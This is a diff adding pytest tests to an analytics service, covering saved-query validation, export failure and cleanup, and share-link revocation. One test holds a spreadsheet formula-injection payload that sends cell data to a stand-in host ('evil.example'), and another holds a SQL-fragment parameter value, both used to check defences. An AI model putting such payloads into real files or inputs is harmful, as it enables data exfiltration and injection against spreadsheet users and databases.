@@ -1,17 +1,30 @@
+import csv
 import datetime as dt
 import json
+import signal
+import subprocess
+import sys
 from decimal import Decimal
 from zoneinfo import ZoneInfo
 
 import pytest
 
 from within_db.errors import ConflictError, PermissionDeniedError, ValidationError
-from within_db.models.analytics import DashboardWidget, ReportExport, ScheduledReport
+from within_db.models.analytics import (
+    Dashboard,
+    DashboardWidget,
+    ReportExport,
+    SavedQuery,
+    ScheduledReport,
+    ShareLink,
+)
 from within_db.models.campaigns import AdMetric, CampaignPerformance, SpendRecord
 from within_db.models.ml_system import ModelMetric, PredictionLog
+from within_db.models.users import User
 from within_db.services import analytics as svc
+from within_db.services.analytics import reports as reports_module
 from within_db.services.analytics.compiler import catalogue, execute_definition, validate_definition
-from within_db.services.users import create_role, grant_role
+from within_db.services.users import create_role, grant_role, token_digest
 
 from .helpers import make_ad, make_campaign, make_model, make_report, make_user, make_version
 
@@ -269,11 +282,14 @@ def test_exports_write_rows_or_fail_without_a_file(data, tmp_path):
     first = json.loads(open(jsonl.location).readline())
     assert first == {"platform": "google", "clicks": 10, "spend": "3.000001"}
     broken = make_report(owner=owner, saved_query=None)
+    (tmp_path / "out").mkdir()
     failed = svc.export_report(broken, "csv", tmp_path / "out")
     assert failed.status == "failed" and "no saved query" in failed.error
-    assert failed.location is None and not (tmp_path / "out").exists()
-    denied = svc.export_report(report, "csv", tmp_path / "denied", requested_by=make_user())
-    assert denied.status == "failed" and not (tmp_path / "denied").exists()
+    assert failed.error.startswith("ValidationError: ")
+    assert failed.location is None and not any((tmp_path / "out").iterdir())
+    denied = svc.export_report(report, "csv", tmp_path / "out", requested_by=make_user())
+    assert denied.status == "failed" and denied.error.startswith("PermissionDeniedError")
+    assert not any((tmp_path / "out").iterdir())
     assert ReportExport.select().count() == 4
     assert sorted(p.suffix for p in tmp_path.iterdir() if p.is_file()) == [".csv", ".jsonl"]
     with pytest.raises(ValidationError):
@@ -298,3 +314,222 @@ def test_share_links_expire_and_revoke(data):
         svc.create_share_link(owner, "view", dt.timedelta(days=1), owner)
     with pytest.raises(ValidationError):
         svc.create_share_link(board, "admin", dt.timedelta(days=1), owner)
+
+
+# -- definitions that were stored but crashed every later run --------------------------------
+
+
+def _days(n):
+    return [(D(2020, 1, 1) + dt.timedelta(days=i)).isoformat() for i in range(n)]
+
+
+SPEND = {"dataset": "spend", "metrics": ["spend"]}
+
+
+@pytest.mark.parametrize("definition,message", [
+    ({**SPEND, "filters": [{"dimension": "date", "op": "in", "value": _days(5000)}]},
+     "at most 1000 values"),
+    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq"}]}, "value: Field required"),
+    ({**SPEND, "filters": None}, "filters: Input should be a valid list"),
+    ({**SPEND, "sort": None}, "sort: Input should be a valid list"),
+    ({**SPEND, "filters": [{"dimension": "campaign", "op": "eq", "value": "not-a-uuid"}]},
+     "values must be UUIDs"),
+    ({**SPEND, "filters": [{"dimension": "date", "op": "gte", "value": "26/01/2026"}]},
+     "ISO dates"),
+    ({"dataset": "prediction_logs", "metrics": ["prediction_count"],
+      "filters": [{"dimension": "version", "op": "eq", "value": "1"}]}, "must be integers"),
+    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq", "value": ["a", "b"]}]},
+     "takes one value"),
+    ({**SPEND, "filters": [{"dimension": "platform", "op": "in", "value": [[["x"]]]}]},
+     "a filter value is text"),
+    ({**SPEND, "filters": [{"dimension": "platform", "op": "eq",
+                            "value": {"param": "x; DROP"}}]}, "parameter name"),
+    ({**SPEND, "limit": True}, "limit: Input should be a valid integer"),
+    ({**SPEND, "metrics": "spend"}, "metrics: Input should be a valid list"),
+])
+def test_definitions_that_would_crash_later_are_refused_when_saved(db, definition, message):
+    owner = make_user()
+    with pytest.raises(ValidationError, match=message):
+        svc.create_saved_query(owner, "q", definition)
+    assert SavedQuery.select().count() == 0
+
+
+def test_a_thousand_day_in_list_runs_on_dates_and_on_instants(data):
+    days = [*_days(998), "2026-01-25", "2026-01-26"]
+    for dataset, metric, expected in [("campaign_performance", "clicks", 90),
+                                      ("spend", "records", 3)]:
+        rows = execute_definition({"dataset": dataset, "metrics": [metric], "filters": [
+            {"dimension": "date", "op": "in", "value": days}]})
+        assert rows == [{metric: expected}]
+
+
+def test_params_are_typed_against_their_dimension_when_run(data):
+    query = svc.create_saved_query(data["owner"], "by campaign", {
+        "dataset": "campaign_performance", "metrics": ["clicks"], "filters": [
+            {"dimension": "campaign", "op": "eq", "value": {"param": "campaign"}},
+            {"dimension": "date", "op": "gte", "value": {"param": "since"}}]})
+    since = "2026-01-01"
+    assert svc.run_saved_query(query, {"campaign": str(data["meta"].id), "since": since}) == \
+        [{"clicks": 90}]
+    assert svc.run_saved_query(query, {"campaign": data["meta"].id, "since": D(2026, 1, 26)}) \
+        == [{"clicks": 40}]
+    for params, message in [({"campaign": "not-a-uuid", "since": since}, "must be UUIDs"),
+                            ({"campaign": [str(data["meta"].id)], "since": since},
+                             "takes one value"),
+                            ({"campaign": str(data["meta"].id), "since": 20260101},
+                             "ISO dates"),
+                            ({"since": since}, 'missing query parameter "campaign"')]:
+        with pytest.raises(ValidationError, match=message):
+            svc.run_saved_query(query, params)
+
+
+def test_a_stored_definition_that_no_longer_validates_names_the_saved_query(data):
+    query = svc.create_saved_query(data["owner"], "legacy", {**SPEND})
+    SavedQuery.update(definition={**SPEND, "filters": None}).where(
+        SavedQuery.id == query.id).execute()
+    stale = SavedQuery.get_by_id(query.id)
+    with pytest.raises(ValidationError, match=f'saved query {query.id} \\("legacy"\\) no longer '
+                                              "validates: filters"):
+        svc.run_saved_query(stale)
+    with pytest.raises(ValidationError, match="no longer validates"):
+        svc.create_visualization(stale, "chart", "table")
+
+
+# -- exports ---------------------------------------------------------------------------------
+
+
+def _report(owner, definition):
+    return make_report(owner=owner, saved_query=svc.create_saved_query(owner, "q", definition))
+
+
+def test_export_arguments_are_checked_before_a_row_is_written(data, tmp_path):
+    report = _report(data["owner"], {**SPEND})
+    for directory, message in [(None, "directory is required"), ("", "directory is empty"),
+                               (tmp_path / "missing", "does not exist"),
+                               (str(tmp_path / "file"), "does not exist")]:
+        (tmp_path / "file").write_text("")
+        with pytest.raises(ValidationError, match=message):
+            svc.export_report(report, "csv", directory)
+    assert ReportExport.select().count() == 0
+
+
+def test_csv_cells_that_spreadsheets_run_as_formulas_are_neutralised(data, tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    for name in (evil, "+1", "-2", "@cmd", "\tx", "\rx", "plain"):
+        ModelMetric.create(model_version=data["version"], name=name, value=1.0, split="test")
+    report = _report(data["owner"], {"dataset": "model_metrics", "dimensions": ["metric"],
+                                     "metrics": ["count"]})
+    guarded = svc.export_report(report, "csv", tmp_path)
+    with open(guarded.location, newline="", encoding="utf-8") as handle:
+        cells = [row[0] for row in csv.reader(handle)][1:]
+    assert sorted(cells) == sorted(["'" + evil, "'+1", "'-2", "'@cmd", "'\tx", "'\rx",
+                                    "auc", "plain"])
+    raw = svc.export_report(report, "csv", tmp_path, neutralise_formulas=False)
+    with open(raw.location, newline="", encoding="utf-8") as handle:
+        assert evil in [row[0] for row in csv.reader(handle)]
+
+
+def test_negative_numbers_are_not_mangled_in_csv(data, tmp_path):
+    ModelMetric.update(value=-0.5).execute()
+    report = _report(data["owner"], {"dataset": "model_metrics", "metrics": ["mean_value"]})
+    export = svc.export_report(report, "csv", tmp_path)
+    assert open(export.location).read().splitlines() == ["mean_value", "-0.5"]
+
+
+def test_an_interrupted_export_is_marked_failed_and_leaves_no_file(data, tmp_path,
+                                                                    monkeypatch):
+    report = _report(data["owner"], {**SPEND})
+
+    def interrupted(rows, fmt, handle, guard):
+        handle.write("half a row")
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(reports_module, "_write", interrupted)
+    with pytest.raises(KeyboardInterrupt):
+        svc.export_report(report, "csv", tmp_path)
+    export = ReportExport.get()
+    assert export.status == "failed" and export.error == "KeyboardInterrupt"
+    assert export.location is None and list(tmp_path.iterdir()) == []
+
+
+def test_stale_running_exports_are_reaped_with_their_partial_files(data, tmp_path):
+    report = _report(data["owner"], {**SPEND})
+    started = dt.datetime.now(UTC) - dt.timedelta(hours=2)
+    stale = ReportExport.create(report=report, format="csv", status="running",
+                                started_at=started, created_at=started,
+                                location=str(tmp_path / "report-x.csv"))
+    (tmp_path / "report-x.csv.partial").write_text("half")
+    fresh = ReportExport.create(report=report, format="csv", status="running",
+                                started_at=dt.datetime.now(UTC))
+    export = svc.export_report(report, "csv", tmp_path)  # reaps first
+    assert export.status == "succeeded"
+    assert ReportExport.get_by_id(stale.id).status == "failed"
+    assert ReportExport.get_by_id(stale.id).error.startswith("StaleExport")
+    assert ReportExport.get_by_id(fresh.id).status == "running"
+    assert not (tmp_path / "report-x.csv.partial").exists()
+    assert svc.reap_stale_exports(dt.timedelta(seconds=1),
+                                  now=dt.datetime.now(UTC) + dt.timedelta(minutes=1)) == 1
+    assert ReportExport.get_by_id(fresh.id).status == "failed"
+
+
+# -- share links -----------------------------------------------------------------------------
+
+
+def test_share_links_die_with_their_creator_or_resource(data):
+    owner, other = data["owner"], make_user()
+    board = svc.create_dashboard(owner, "Shared")
+    raw, _ = svc.create_share_link(board, "view", dt.timedelta(days=1), other)
+    assert svc.resolve_share_link(raw)[0].id == board.id
+    User.update(is_active=False).where(User.id == other.id).execute()
+    assert svc.resolve_share_link(raw) is None
+    raw2, _ = svc.create_share_link(board, "view", dt.timedelta(days=1), owner)
+    Dashboard.delete().where(Dashboard.id == board.id).execute()
+    assert svc.resolve_share_link(raw2) is None
+
+
+def test_unsaved_resources_cannot_be_shared_and_legacy_rows_resolve_to_nothing(data):
+    owner = data["owner"]
+    with pytest.raises(ValidationError, match="unsaved Dashboard"):
+        svc.create_share_link(Dashboard(owner=owner, name="draft"), "view",
+                              dt.timedelta(days=1), owner)
+    assert ShareLink.select().count() == 0
+    raw = "wdbl_" + "x" * 43
+    now = dt.datetime.now(UTC)
+    ShareLink.create(resource_type="dashboard", resource_id="None", prefix=raw[:12],
+                     token_hash=token_digest(raw), created_by=owner, created_at=now,
+                     expires_at=now + dt.timedelta(days=1))
+    assert svc.resolve_share_link(raw) is None
+
+
+def test_an_export_killed_mid_write_is_reaped(migrated_fresh_db, fresh_url, tmp_path):
+    # A real process, killed (SIGKILL) while writing: it leaves a running row and a partial
+    # file, which the reaper (also run by every export) turns into a failed row and no file.
+    code = (
+        "import os, signal, sys, within_db\n"
+        "from within_db.services import analytics as an, users\n"
+        "from within_db.services.analytics import reports\n"
+        "within_db.connect(sys.argv[1])\n"
+        "owner = users.create_user('k@example.com', 'a sufficiently long passphrase')\n"
+        "query = an.create_saved_query(owner, 'q', {'dataset': 'spend', 'metrics': ['spend']})\n"
+        "report = an.create_report(owner, 'r', saved_query=query)\n"
+        "def dying(rows, fmt, handle, guard):\n"
+        "    handle.write('half a row')\n"
+        "    handle.flush()\n"
+        "    os.kill(os.getpid(), signal.SIGKILL)\n"
+        "reports._write = dying\n"
+        "an.export_report(report, 'csv', sys.argv[2])\n"
+    )
+    proc = subprocess.run([sys.executable, "-c", code, fresh_url, str(tmp_path)],
+                          capture_output=True, text=True, timeout=120)
+    assert proc.returncode == -signal.SIGKILL, proc.stderr
+    [partial] = tmp_path.iterdir()
+    assert partial.name.endswith(".csv.partial")
+    with migrated_fresh_db.connection_context():
+        export = ReportExport.get()
+        assert export.status == "running"
+        assert svc.reap_stale_exports() == 0  # not stale yet
+        later = dt.datetime.now(UTC) + svc.STALE_EXPORT_AFTER + dt.timedelta(minutes=1)
+        assert svc.reap_stale_exports(now=later) == 1
+        export = ReportExport.get()
+    assert export.status == "failed" and export.error.startswith("StaleExport")
+    assert list(tmp_path.iterdir()) == []
